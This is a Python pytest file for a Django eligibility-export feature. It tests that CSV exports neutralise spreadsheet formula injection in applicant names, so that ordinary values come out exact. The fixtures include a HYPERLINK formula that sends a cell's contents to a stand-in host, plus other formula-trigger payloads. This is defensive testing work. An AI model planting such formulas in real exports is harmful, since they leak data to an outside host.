"""The §7 eligibility export (written by PostgreSQL COPY) neutralises formula cells in SQL the
way core.exports.spreadsheet_safe does in Python, and leaves ordinary values exact."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from core.exports import FORMULA_TRIGGERS, spreadsheet_safe
from tests.participants.factories import ApplicationFactory
from verification.services import eligibility_run

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")'


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_a_hyperlink_formula_in_a_name_goes_out_neutralised_on_the_page(client, paser_staff, cycle, paser_village):
    hostile = ApplicationFactory(cycle=cycle, person__name=HOSTILE)
    plain = ApplicationFactory(cycle=cycle, person__name="Siti Aminah")
    eligibility_run(cycle=cycle)
    client.force_login(paser_staff)

    response = client.get(reverse("verification:cycle-export", args=[cycle.code]))

    by_nik = {row[0]: row for row in rows_of(b"".join(response.streaming_content))[1:]}
    assert by_nik[hostile.person.nik][7] == "'" + HOSTILE
    assert by_nik[plain.person.nik][7] == "Siti Aminah"
    # §7's seven columns are exact for ordinary values.
    assert by_nik[plain.person.nik][:7] == [plain.person.nik, cycle.code, "ELIGIBLE", "", "", "", "0"]


def test_the_export_command_neutralises_it_too(tmp_path, cycle, paser_village):
    hostile = ApplicationFactory(cycle=cycle, person__name="@SUM(1+1)*cmd")
    out = tmp_path / "hasil.csv"

    call_command("export_eligibility", "--program", cycle.code, "--output", str(out))

    by_nik = {row[0]: row for row in rows_of(out.read_bytes())[1:]}
    assert by_nik[hostile.person.nik][7] == "'@SUM(1+1)*cmd"


def test_sql_and_python_agree_on_every_trigger(client, system_admin, cycle, paser_village):
    names = [f"{trigger}1+1" for trigger in FORMULA_TRIGGERS] + ["Andi", "Andi=1", "'=1"]
    niks = {ApplicationFactory(cycle=cycle, person__name=name).person.nik: name for name in names}
    client.force_login(system_admin)

    response = client.get(reverse("verification:cycle-export", args=[cycle.code]))

    exported = {row[0]: row[7] for row in rows_of(b"".join(response.streaming_content))[1:]}
    assert exported == {nik: spreadsheet_safe(name) for nik, name in niks.items()}
